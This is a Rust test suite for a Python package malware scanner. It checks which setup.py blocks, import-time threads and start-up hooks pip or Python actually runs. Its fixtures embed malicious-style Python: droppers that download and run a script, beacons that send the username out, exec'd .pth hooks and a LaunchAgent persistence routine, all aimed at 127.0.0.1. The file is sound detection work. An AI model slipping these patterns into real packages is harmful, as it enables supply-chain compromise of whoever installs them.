//! When code runs: which blocks of a setup.py pip runs, what a thread
//! started at import runs, which files Python runs at start-up. Each case
//! has its look-alike that does not run (payloads aim at 127.0.0.1).

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

mod common;

use common::{SETUP, sdist, wheel};
use custody_inspect::{Phase, Report, Verdict};

fn has(r: &Report, code: &str, phase: Phase) -> bool {
    r.findings
        .iter()
        .any(|f| f.code.as_str() == code && f.phase == phase)
}

#[test]
fn a_main_block_in_setup_py_runs_at_install() {
    // sylex-syntax 1.5, reverse-shell 1.5: clone a repository and run a
    // file from it, called from `if __name__ == "__main__":`. setuptools'
    // build backend runs setup.py as `__main__`.
    let body = "import os, subprocess, git\nfrom setuptools import setup\n\ndef fetch():\n    git.Repo.clone_from('http://127.0.0.1:9/x.git', '/tmp/x')\n    os.chdir('/tmp/x')\n    subprocess.run(['python', 'x.py'])\n\nsetup(name='pkg')\n";
    let called = format!("{body}\nif __name__ == '__main__':\n    fetch()\n");
    let r = sdist(&[("setup.py", &called)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(has(&r, "custody::network-egress", Phase::Install));
    // Defined but never called: nothing runs.
    let r = sdist(&[("setup.py", body)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // The same block in a module runs only when it is run as a script.
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &called)]);
    assert!(
        !has(&r, "custody::network-egress", Phase::Import),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_maintainer_command_block_in_setup_py_does_not_run_at_install() {
    // configargparse: `setup.py coverage` serves a report (binds a socket,
    // prints the host name); `setup.py publish` uploads. pip passes
    // neither.
    let guarded = "import os, sys, socket, urllib.request\nfrom setuptools import setup\ncommand = sys.argv[-1]\nif command == 'publish':\n    urllib.request.urlopen('http://127.0.0.1:9/')\n    os.system('twine upload dist/*')\nelif command == 'coverage':\n    print(socket.gethostname())\n    socket.socket()\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", guarded)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // A negated test runs for every command pip passes.
    let negated = guarded.replace("if command == 'publish'", "if command != 'publish'");
    let r = sdist(&[("setup.py", &negated)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_block_pip_can_reach_is_not_a_maintainer_command_because_it_quotes_one() {
    // A dropper and a getuser() beacon behind conditions that quote a
    // maintainer word but hold for a command pip passes (egg_info,
    // bdist_wheel, install), or always.
    let body = "    import getpass, os, urllib.request\n    urllib.request.urlretrieve('http://127.0.0.1:9/p', '/tmp/p')\n    os.system('sh /tmp/p')\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
    let setup = |condition: &str, pre: &str| {
        format!(
            "import sys\nfrom setuptools import setup\n{pre}if {condition}:\n{body}setup(name='pkg')\n"
        )
    };
    for (condition, pre) in [
        (
            "sys.argv[1] in ('egg_info', 'bdist_wheel', 'install', 'publish')",
            "",
        ),
        ("'upload' in sys.argv[:1] + ['upload']", ""),
        ("command == 'publish'", "command = 'publish'\n"),
        (
            "command == 'publish'",
            "command = sys.argv[-1]\ncommand = 'publish'\n",
        ),
        ("'publish' in sys.argv or True", ""),
        ("sys.argv[-1] == 'publish' or 1", ""),
    ] {
        let r = sdist(&[("setup.py", &setup(condition, pre))]);
        assert_eq!(
            r.verdict,
            Verdict::Malicious,
            "{condition}: {:#?}",
            r.findings
        );
        assert!(
            has(&r, "custody::network-egress", Phase::Install),
            "{condition}"
        );
    }
    // Controls: conditions only a maintainer's command makes true.
    for (condition, pre) in [
        ("sys.argv[-1] == 'publish'", ""),
        ("'upload' in sys.argv", ""),
        ("sys.argv[1] in ('publish', 'release')", ""),
        ("len(sys.argv) > 1 and sys.argv[1] == 'publish'", ""),
        ("command == 'publish'", "command = sys.argv[-1]\n"),
    ] {
        let r = sdist(&[("setup.py", &setup(condition, pre))]);
        assert_eq!(r.verdict, Verdict::Clean, "{condition}: {:#?}", r.findings);
    }
}

#[test]
fn a_lambda_a_thread_starts_at_import_runs_at_import() {
    // webquickauth 2.3.5: `Thread(target=lambda: [py_run("""...""")])`.
    let started = "import getpass, threading, urllib.request\nthreading.Thread(target=lambda: urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser()), daemon=True).start()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", started)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(has(&r, "custody::network-egress", Phase::Import));
    // A lambda kept for later runs when something calls it.
    let kept = "import getpass, urllib.request\nreport = lambda: urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", kept)]);
    assert!(
        !has(&r, "custody::network-egress", Phase::Import),
        "{:#?}",
        r.findings
    );
}

#[test]
fn sitecustomize_runs_at_startup_only_at_the_top_of_what_is_installed() {
    let hook = "import atexit\natexit.register(print)\n";
    let r = wheel(&[("sitecustomize.py", hook)]);
    assert!(
        has(&r, "custody::startup-hook", Phase::Startup),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Suspicious);
    // ddtrace and debugpy ship one inside a package for their launchers
    // to put on sys.path: a plain module.
    let r = wheel(&[("pkg/bootstrap/sitecustomize.py", hook)]);
    assert!(
        !has(&r, "custody::startup-hook", Phase::Startup),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Clean);
    // At the top of an sdist (or its src/) it is installed at the top.
    let r = sdist(&[("setup.py", SETUP), ("src/sitecustomize.py", hook)]);
    assert!(
        has(&r, "custody::startup-hook", Phase::Startup),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_pth_hook_that_execs_plain_harmless_code_is_not_flagged() {
    // coverage and coloredlogs: import the package when a variable asks.
    let plain = "import os; exec('if os.getenv(\"PKG_AUTO\"):\\n import pkg\\n pkg.start()')\n";
    let r = wheel(&[
        ("pkg.pth", plain),
        ("pkg/__init__.py", "def start():\n    pass\n"),
    ]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // What the exec'd code imports runs at start-up.
    let r = wheel(&[
        ("pkg.pth", plain),
        (
            "pkg/__init__.py",
            "import urllib.request, getpass\nurllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n",
        ),
    ]);
    assert!(
        has(&r, "custody::network-egress", Phase::Startup),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // An exec'd line that connects out is a hook to flag.
    let net = "import urllib.request; exec('urllib.request.urlopen(\"http://127.0.0.1:9/\")')\n";
    let r = wheel(&[("pkg.pth", net)]);
    assert!(
        has(&r, "custody::pth-exec", Phase::Startup),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_function_the_package_init_runs_at_import_runs_at_import() {
    // bobikssf 0.4 (`from .bobik import main; main()`), chrome-stealth
    // 0.1.0 (called from a thread's target), hooktest3 0.1.1 (imported in
    // a function and handed to a thread).
    let payload = "import getpass, urllib.request\ndef main():\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
    for init in [
        "from .payload import main\nmain()\n",
        "import threading\nfrom pkg.payload import main\ndef _bg():\n    main()\nthreading.Thread(target=_bg).start()\n",
        "import threading\ndef hook():\n    from .payload import main\n    threading.Thread(target=main).start()\nhook()\n",
    ] {
        let r = sdist(&[
            ("setup.py", SETUP),
            ("pkg/__init__.py", init),
            ("pkg/payload.py", payload),
        ]);
        assert_eq!(r.verdict, Verdict::Malicious, "{init}: {:#?}", r.findings);
        assert!(has(&r, "custody::network-egress", Phase::Import), "{init}");
    }
    // Imported for users to call: runs when they call it.
    let r = sdist(&[
        ("setup.py", SETUP),
        (
            "pkg/__init__.py",
            "from .payload import main\n__all__ = ['main']\n",
        ),
        ("pkg/payload.py", payload),
    ]);
    assert!(
        !has(&r, "custody::network-egress", Phase::Import),
        "{:#?}",
        r.findings
    );
    assert_ne!(r.verdict, Verdict::Malicious);
}

#[test]
fn an_autostart_agent_written_made_executable_and_loaded_at_import_is_malicious() {
    // hooktest3 0.1.1: a LaunchAgent for a script it writes, chmod, launchctl load.
    let module = "import os, subprocess\ndef persist():\n    d = os.path.expanduser('~/Library/LaunchAgents')\n    p = os.path.join(d, 'placeholder.plist')\n    open(p, 'w').write('<plist/>')\n    os.chmod('/tmp/placeholder.sh', 0o755)\n    subprocess.run(['launchctl', 'load', p])\npersist()\n";
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // A command a user runs to install a service is run time.
    let cli = module.replace("persist()\n", "");
    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &cli)]);
    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

#[test]
fn a_src_layout_package_that_setup_py_imports_runs_at_install() {
    // hooktest3 0.1.1: setup.py puts src/ on sys.path and imports the package.
    let setup = "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))\nfrom setuptools import setup\nfrom pkg import hook\nhook()\nsetup(name='pkg')\n";
    let init = "import getpass, urllib.request\ndef hook():\n    urllib.request.urlopen('http://127.0.0.1:9/?u=' + getpass.getuser())\n";
    let r = sdist(&[("setup.py", setup), ("src/pkg/__init__.py", init)]);
    assert!(
        has(&r, "custody::network-egress", Phase::Install),
        "{:#?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}
